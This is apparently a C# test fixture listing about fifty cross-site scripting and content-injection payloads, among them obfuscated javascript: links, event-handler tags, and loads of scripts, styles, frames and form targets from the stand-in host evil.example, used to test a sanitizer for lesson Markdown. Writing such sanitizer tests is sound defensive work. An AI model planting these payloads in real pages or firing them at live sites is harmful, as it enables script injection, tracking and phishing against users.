namespace Rookery.Testing;

/// <summary>Ways to run script or to load something from a lesson's text.</summary>
/// <remarks>Known from the trade (common practice in tests of cleaners).</remarks>
public static class HostileHtml
{
    /// <summary>Each on its own in a lesson's Markdown; what runs calls <c>alert(1)</c>, what loads asks evil.example.
    /// </summary>
    public static IReadOnlyList<string> Attacks { get; } =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](data:text/html,hi)",
        "[x](vbscript:msgbox(1))",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=\"x.swf\"></object>",
        "<embed src=x>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css'</style>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<form action=\"https://evil.example\"><input name=a></form>",
        "<img src=\"https://evil.example/p.png\">",
        "<img srcset=\"https://evil.example/p.png 2x\">",
        "<p style=\"background:url(//evil.example/p.png)\">x</p>",
        "<video src=\"https://evil.example/v.mp4\" autoplay></video>",
        "<audio src=//evil.example/a></audio>",
        "<table background=\"//evil.example/p.png\"><tr><td>x</td></tr></table>",
        "<div onclick=alert(1)>x</div>",
        "<details open ontoggle=alert(1)>x</details>",
        "<a href=\"#\" onfocus=alert(1) autofocus>x</a>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<textarea><script>alert(1)</script></textarea>",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<p id=rk-main class=rk-player data-files=\"//evil.example/x\" data-id=x data-stops=\"\">x</p>",
        "<xmp><script>alert(1)</script></xmp>",
        "`<script>alert(1)</script>`",
        "    <script>alert(1)</script>",
        "<img src='file:///etc/passwd'>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<button formaction=javascript:alert(1)>x</button>",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)>",
        "<https://example.org/?a=\"onclick=alert(1)>",
        "# x <b onmouseover=alert(1)>y</b>",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "[^1]\n\n[^1]: <script>alert(1)</script>",
    ];
}
